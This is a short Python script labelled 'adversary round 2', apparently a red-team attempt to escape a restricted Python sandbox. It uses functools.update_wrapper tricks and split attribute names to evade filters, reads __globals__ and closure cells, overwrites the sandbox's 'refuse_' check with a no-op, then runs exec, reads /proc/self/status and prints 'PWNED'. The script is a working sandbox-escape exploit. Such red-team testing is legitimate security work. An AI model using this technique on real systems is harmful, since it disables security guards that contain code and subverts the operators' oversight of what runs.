# adversary round 2: 014_patch_refuse
import functools,dataclasses
box=[]
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
g = get(dataclasses.fields, '__glo'+'bals__')
b=g['builtins']
ga = get(b, 'get'+'attr')
names = get(get(ga, '__co'+'de__'), 'co_freevars')
cl = dict(zip(names, get(ga, '__clo'+'sure__')))
cv = cl['check_value'].cell_contents
cells = dict(zip(get(get(cv, '__co'+'de__'), 'co_freevars'), get(cv, '__clo'+'sure__')))
def nothing(*a, **k): return None
cells['refuse_'].cell_contents = nothing
try:
    b.exec("print('exec ran:', 6*7)")
except BaseException as e:
    print("exec ERR", type(e).__name__, e)
try:
    print("proc:", open('/proc/self/status').read()[:60])
except BaseException as e:
    print("proc ERR", type(e).__name__, e)
print("PWN"+"ED")
